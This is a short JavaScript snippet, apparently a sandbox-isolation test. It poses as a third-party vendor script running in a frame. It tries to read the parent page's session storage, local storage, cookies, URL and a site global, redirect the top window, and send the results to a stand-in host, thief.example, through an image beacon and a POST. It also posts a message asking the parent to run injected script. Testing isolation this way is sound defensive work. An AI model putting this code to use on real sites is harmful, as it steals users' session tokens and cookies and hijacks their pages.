// A vendor's script that wants to know everything, and tells it to everybody.
;(() => {
  const found = []
  const look = (name, get) => {
    try {
      const value = get()
      found.push(`${name}=${typeof value === 'string' ? value : JSON.stringify(value)}`)
    } catch {
      found.push(`${name}: refused`)
    }
  }
  look('session', () => parent.sessionStorage.getItem('MC_SESSION_INFO'))
  look('local', () => JSON.stringify({ ...parent.localStorage }))
  look('cookies', () => parent.document.cookie)
  look('address', () => parent.location.href)
  look('site', () => parent.__SITE__)
  look('own', () => `${document.cookie}${localStorage.length}${sessionStorage.length}${document.referrer}`)
  look('top', () => {
    top.location.href = 'http://thief.localhost/'
    return 'led elsewhere'
  })
  const told = encodeURIComponent(found.join('; '))
  document.body.append(Object.assign(new Image(), { src: `https://thief.example/told?${told}` }))
  fetch('https://thief.example/told', { method: 'POST', mode: 'no-cors', body: told }).catch(() => undefined)
  parent.postMessage({ kind: 'run', html: '<script>document.body.remove()</script>', canOpen: true }, '*')
})()
